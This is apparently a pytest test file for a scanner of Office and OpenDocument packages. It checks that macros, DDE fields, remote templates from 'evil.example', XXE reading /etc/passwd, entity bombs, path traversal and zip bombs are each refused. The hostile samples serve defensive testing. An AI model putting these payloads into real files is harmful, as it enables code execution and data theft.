"""DOCX, XLSX, ODT and ODS: ordinary ones pass, and what runs or loads by itself has its own reason."""

from __future__ import annotations

import struct
import zipfile
import zlib

import pytest

from inspection.kinds import DOCX, ODS, ODT, XLSX
from inspection.refusals import Reason
from tests.inspection.samples import (
    EXCEL_MAIN,
    MICROSOFT,
    OFFICE,
    OLE,
    WORD_MAIN,
    archive,
    content_types,
    docx,
    docx_parts,
    odf,
    relations,
    verdict,
    with_parts,
    xlsx,
)

VBA = "application/vnd.ms-office.vbaProject"
EMPTY_BASIC = (
    '<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">'
    '<library:libraries xmlns:library="http://openoffice.org/2000/library"/>'
)
BASIC = (
    '<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">'
    '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M">Sub Main</script:module>'
)


def field(*words: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


def external(type_: str, target: str) -> bytes:
    return docx(links=((f"{OFFICE}/{type_}", target, "External"),))


ORDINARY = {
    "plain Word": (lambda: docx(), DOCX),
    "Word for the web": (lambda: docx(main="word/document2.xml"), DOCX),
    "main part elsewhere": (lambda: docx(main="letters/first.xml"), DOCX),
    "only the usual names": (lambda: archive({"word/document.xml": "<x/>"}), DOCX),
    "strict Open XML": (
        lambda: with_parts(
            docx(),
            {
                "_rels/.rels": relations(
                    (
                        "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
                        "/word/document.xml",
                    )
                )
            },
        ),
        DOCX,
    ),
    "hyperlinks": (lambda: external("hyperlink", "https://ec.europa.eu/"), DOCX),
    "template on the author's disk": (
        lambda: external("attachedTemplate", r"file:///C:\Users\Ana\Templates\Letter.dotx"),
        DOCX,
    ),
    "picture linked from the author's disk": (lambda: external("image", r"C:\maps\map.png"), DOCX),
    "chart with its table": (
        lambda: docx(
            links=((f"{OFFICE}/package", "embeddings/Sheet1.xlsx"),),
            more={"word/embeddings/Sheet1.xlsx": xlsx()},
        ),
        DOCX,
    ),
    "field with a date": (lambda: docx(field("DATE \\@ d.M.yyyy")), DOCX),
    "default type of parts that are not there": (
        lambda: with_parts(
            docx(),
            {
                "[Content_Types].xml": content_types(**{"/word/document.xml": WORD_MAIN}).replace(
                    "<Default", f'<Default Extension="bin" ContentType="{VBA}"/><Default', 1
                )
            },
        ),
        DOCX,
    ),
    "old Excel's drawing of comments": (
        lambda: docx(more={"word/vmlDrawing1.vml": "<xml><br><div></xml>"}),
        DOCX,
    ),
    "drawing of Illustrator": (
        lambda: docx(
            more={"word/media/a.svg": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>'}
        ),
        DOCX,
    ),
    "field that names a bookmark": (lambda: docx(field("REF DDE")), DOCX),
    "Excel": (lambda: xlsx(), XLSX),
    "Excel with a printer": (
        lambda: with_parts(xlsx(), {"xl/printerSettings/printerSettings1.bin": b"\1\2"}),
        XLSX,
    ),
    "Excel linked to another book": (
        lambda: with_parts(
            xlsx(),
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    (f"{OFFICE}/externalLinkPath", "https://town.sharepoint.com/budget.xlsx", "External")
                )
            },
        ),
        XLSX,
    ),
    "OpenDocument text": (lambda: odf(), ODT),
    "OpenDocument spreadsheet": (lambda: odf(ODS, "<office:spreadsheet/>"), ODS),
    "empty Basic library of OpenOffice 3": (lambda: odf(more={"Basic/script-lc.xml": EMPTY_BASIC}), ODT),
    "OpenDocument hyperlink": (lambda: odf(content='<text:a xlink:href="https://oecd.org/">x</text:a>'), ODT),
    "OpenDocument chart": (lambda: odf(more={"Object 1/content.xml": "<x/>"}), ODT),
}


@pytest.mark.parametrize("case", ORDINARY)
def test_ordinary_package_passes(case):
    make, kind = ORDINARY[case]

    found = verdict(make())

    assert (found.kind, found.reason, found.details) == (kind, "", {})


def renamed_macro(type_: str = f"{MICROSOFT}/vbaProject") -> bytes:
    return docx(links=((type_, "media/image7.png"),), more={"word/media/image7.png": OLE})


REFUSED = {
    "macro under another name": (renamed_macro, Reason.MACROS),
    "macro by its content type": (
        lambda: docx(types={"/word/a.dat": VBA}, more={"word/a.dat": b"x"}),
        Reason.MACROS,
    ),
    "macro that nothing names": (lambda: docx(more={"word/vbaProject.bin": b"x"}), Reason.MACROS),
    "DOCM named DOCX": (
        lambda: docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        Reason.MACROS,
    ),
    "macro in an embedded sheet": (
        lambda: docx(
            more={
                "word/embeddings/a.bin": with_parts(
                    xlsx(), {"xl/_rels/workbook.xml.rels": relations((f"{MICROSOFT}/vbaProject", "x.bin"))}
                )
            }
        ),
        Reason.MACROS,
    ),
    "Excel 4 macro sheet by relationship": (
        lambda: with_parts(
            xlsx(),
            {"xl/_rels/workbook.xml.rels": relations((f"{MICROSOFT}/xlMacrosheet", "worksheets/sheet1.xml"))},
        ),
        Reason.EXCEL4,
    ),
    "Excel 4 macro sheet by content type": (
        lambda: with_parts(
            xlsx(),
            {
                "[Content_Types].xml": content_types(
                    **{
                        "/xl/workbook.xml": EXCEL_MAIN,
                        "/xl/worksheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml",
                    }
                )
            },
        ),
        Reason.EXCEL4,
    ),
    "Excel 4 macro sheet by its root": (
        lambda: with_parts(xlsx(), {"xl/worksheets/sheet1.xml": "<macrosheet/>"}),
        Reason.EXCEL4,
    ),
    "template from the web": (
        lambda: external("attachedTemplate", "https://evil.example/t.dotm"),
        Reason.REMOTE_TEMPLATE,
    ),
    "template from a share": (
        lambda: external("attachedTemplate", r"file:///\\evil.example\t.dotm"),
        Reason.REMOTE_TEMPLATE,
    ),
    "template from a server": (
        lambda: external("attachedTemplate", r"\\evil.example\t.dotm"),
        Reason.REMOTE_TEMPLATE,
    ),
    "picture from the web": (lambda: external("image", "http://evil.example/pixel.png"), Reason.REMOTE),
    "frame from the web": (lambda: external("frame", "http://evil.example/"), Reason.REMOTE),
    "linked object from the web": (
        lambda: external("oleObject", "mhtml:http://evil.example/"),
        Reason.REMOTE,
    ),
    "table that is fetched on opening": (
        lambda: with_parts(
            xlsx(), {"xl/connections.xml": '<connections><connection refreshOnLoad="1"/></connections>'}
        ),
        Reason.REFRESH,
    ),
    "embedded object": (
        lambda: docx(links=((f"{OFFICE}/oleObject", "embeddings/oleObject1.bin"),)),
        Reason.PROGRAM,
    ),
    "embedded object as a picture": (lambda: docx(more={"word/media/a.png": OLE}), Reason.PROGRAM),
    "embedded program": (lambda: docx(more={"word/media/a.png": b"MZ" + bytes(90)}), Reason.PROGRAM),
    "control": (lambda: docx(links=((f"{OFFICE}/control", "activeX/activeX1.xml"),)), Reason.PROGRAM),
    "DDE field": (lambda: docx(field("DDEAUTO c:\\\\cmd.exe /k calc")), Reason.DDE),
    "DDE field in pieces": (lambda: docx(field(" D", "DE", "AUTO cmd")), Reason.DDE),
    "DDE in one element": (lambda: docx('<w:fldSimple w:instr="DDE cmd x"/>'), Reason.DDE),
    "DDE link of Excel": (
        lambda: with_parts(
            xlsx(), {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"}
        ),
        Reason.DDE,
    ),
    "Basic": (lambda: odf(more={"Basic/Standard/M.xml": BASIC}), Reason.MACROS),
    "Basic elsewhere": (lambda: odf(more={"Pictures/a.png": f'<?xml version="1.0"?>{BASIC}'}), Reason.MACROS),
    "Python": (lambda: odf(more={"Scripts/python/a.py": "print()"}), Reason.MACROS),
    "event that runs a script": (
        lambda: odf(
            content='<script:event-listener xlink:href="vnd.sun.star.script:a.py$f?language=Python"/>'
        ),
        Reason.MACROS,
    ),
    "script in the text": (lambda: odf(content="<text:script>alert(1)</text:script>"), Reason.MACROS),
    "OpenDocument DDE": (lambda: odf(content="<office:dde-source/>"), Reason.DDE),
    "OpenDocument object": (lambda: odf(more={"ObjectReplacements/a": OLE}), Reason.PROGRAM),
    "OpenDocument applet": (lambda: odf(content="<draw:applet/>"), Reason.PROGRAM),
    "OpenDocument picture from the web": (
        lambda: odf(content='<draw:image xlink:href="http://evil.example/a.png"/>'),
        Reason.REMOTE,
    ),
    "OpenDocument frame from the web": (
        lambda: odf(content='<draw:floating-frame xlink:href="//evil.example/a"/>'),
        Reason.REMOTE,
    ),
    "OpenDocument with a password": (
        lambda: odf(more={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
        Reason.ENCRYPTED,
    ),
    "entity bomb": (
        lambda: with_parts(
            docx(),
            {"word/document.xml": '<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;">]><a>&c;</a>'},
        ),
        Reason.ENTITIES,
    ),
    "external entity": (
        lambda: odf(more={"styles.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
        Reason.ENTITIES,
    ),
    "XML without bottom": (lambda: docx("<w:p>" * 5000 + "</w:p>" * 5000), Reason.DEMANDING),
    "XML that is cut off": (lambda: with_parts(docx(), {"word/document.xml": "<a><b>"}), Reason.BROKEN),
    "main part that is not there": (
        lambda: archive({"_rels/.rels": relations((f"{OFFICE}/officeDocument", "word/a.xml"))}),
        Reason.BROKEN,
    ),
    "PowerPoint": (lambda: docx(main="ppt/a.xml", main_type="x/presentationml+xml"), Reason.KIND),
    "plain archive": (lambda: archive({"a.txt": "x"}), Reason.KIND),
    "long mimetype": (lambda: odf("x" * 5_000_000), Reason.DEMANDING),
}


@pytest.mark.parametrize("case", REFUSED)
def test_package_is_refused_with_its_own_reason(case):
    make, reason = REFUSED[case]

    assert verdict(make()).reason == reason


def test_matryoshka_is_not_opened_to_the_last():
    doll = xlsx()
    for _layer in range(6):
        doll = docx(more={"word/embeddings/a.xlsx": doll})

    assert verdict(doll).reason == Reason.DEMANDING


def changed(package: bytes, at: int, new: bytes) -> bytes:
    return package[:at] + new + package[at + len(new) :]


def patched_entry(*, local: dict[int, bytes] | None = None, central: dict[int, bytes] | None = None) -> bytes:
    """A DOCX whose first entry says something else in its header, or in the directory."""
    package = docx()
    directory = package.index(b"PK\x01\x02")
    for offset, new in (local or {}).items():
        package = changed(package, offset, new)
    for offset, new in (central or {}).items():
        package = changed(package, directory + offset, new)
    return package


def lying_bzip2() -> bytes:
    """A kilobyte that says it has a hundred bytes and unpacks to 100 MB."""
    package = archive({"mimetype": bytes(100_000_000)}, method=zipfile.ZIP_BZIP2)
    directory = package.index(b"PK\x01\x02")
    return changed(package, directory + 24, struct.pack("<L", 90))


def twice_in_the_directory() -> bytes:
    """Two entries over the same bytes: the trick of a bomb that is not nested."""
    package = docx()
    directory, end = package.index(b"PK\x01\x02"), package.rindex(b"PK\x05\x06")
    name_length = struct.unpack_from("<H", package, directory + 28)[0]
    extra = package[directory : directory + 46] + b"x" * name_length
    record = bytearray(package[end:])
    count, _same, size, offset = struct.unpack_from("<2H2L", record, 8)
    struct.pack_into("<2H2L", record, 8, count + 1, count + 1, size + len(extra), offset)
    return package[:end] + extra + bytes(record)


def lying_deflate() -> bytes:
    """An entry that unpacks to more than it says, with the right checksum of its beginning."""
    package = docx(more={"word/z.txt": "a" * 50_000})
    directory = package.rindex(b"PK\x01\x02")
    package = changed(package, directory + 16, struct.pack("<L", zlib.crc32(b"a" * 10)))
    return changed(package, directory + 24, struct.pack("<L", 10))


STRUCTURES = {
    "bzip2 that lies about its size": (lying_bzip2, Reason.ARCHIVE),
    "LZMA": (lambda: archive(docx_parts(), method=zipfile.ZIP_LZMA), Reason.ARCHIVE),
    "deflate that lies about its size": (lying_deflate, Reason.BROKEN),
    "folder above": (lambda: docx(more={"../a": "x"}), Reason.ARCHIVE),
    "absolute": (lambda: docx(more={"/etc/a": "x"}), Reason.ARCHIVE),
    "backslash": (lambda: docx(more={"word\\..\\a": "x"}), Reason.ARCHIVE),
    "drive": (lambda: docx(more={"C:a": "x"}), Reason.ARCHIVE),
    "twice, but for the case": (lambda: docx(more={"WORD/DOCUMENT.XML": "x"}), Reason.ARCHIVE),
    "other name in its own header": (lambda: patched_entry(local={30: b"<"}), Reason.ARCHIVE),
    "other method in its own header": (lambda: patched_entry(local={8: b"\0\0"}), Reason.ARCHIVE),
    "encrypted by the directory": (lambda: patched_entry(central={8: b"\1\0"}), Reason.ENCRYPTED),
    "encrypted by its own header": (lambda: patched_entry(local={6: b"\1\0"}), Reason.ENCRYPTED),
    "gigabytes by the directory": (
        lambda: patched_entry(central={24: struct.pack("<L", 3_000_000_000)}),
        Reason.DEMANDING,
    ),
    "over one another": (twice_in_the_directory, Reason.ARCHIVE),
    "something before": (lambda: b"PK\x03\x04 junk " + docx(), Reason.ARCHIVE),
    "something behind": (lambda: docx() + b"<script>", Reason.ARCHIVE),
    "a second archive behind": (lambda: docx() + archive({"a": "b"}), Reason.ARCHIVE),
    "six thousand entries": (
        lambda: docx(more={f"word/{number}": "" for number in range(6000)}),
        Reason.DEMANDING,
    ),
    "120 MB of nothing": (lambda: docx(more={"word/a.bin": bytes(120_000_000)}), Reason.DEMANDING),
    "250 MB in pieces": (
        lambda: docx(more={f"word/{number}.bin": bytes(50_000_000) for number in range(5)}),
        Reason.DEMANDING,
    ),
    "nothing but a start": (lambda: b"PK\x03\x04 broken", Reason.BROKEN),
}


@pytest.mark.parametrize("case", STRUCTURES)
def test_archive_is_refused_for_its_structure(case):
    make, reason = STRUCTURES[case]

    assert verdict(make()).reason == reason


def test_zip64_sizes_are_read_and_not_believed():
    """Some programs write them into small files as well."""
    package = patched_zip64(100)

    assert verdict(package).reason in (Reason.BROKEN, Reason.ARCHIVE)


def patched_zip64(size: int) -> bytes:
    """A stored entry whose true size stands, wrongly, in the ZIP64 field of the directory."""
    parts = {**docx_parts(), "word/a.bin": "0123456789"}
    package = archive(parts, method=zipfile.ZIP_STORED)
    directory, end = package.rindex(b"PK\x01\x02"), package.rindex(b"PK\x05\x06")
    header = bytearray(package[directory:end])
    struct.pack_into("<2L", header, 20, 0xFFFFFFFF, 0xFFFFFFFF)
    field = struct.pack("<2H2Q", 1, 16, size, size)
    struct.pack_into("<H", header, 30, len(field))
    record = bytearray(package[end:])
    struct.pack_into("<L", record, 12, struct.unpack_from("<L", record, 12)[0] + len(field))
    return package[:directory] + bytes(header) + field + bytes(record)


def test_true_zip64_sizes_are_fine():
    assert verdict(patched_zip64(10)).reason == ""
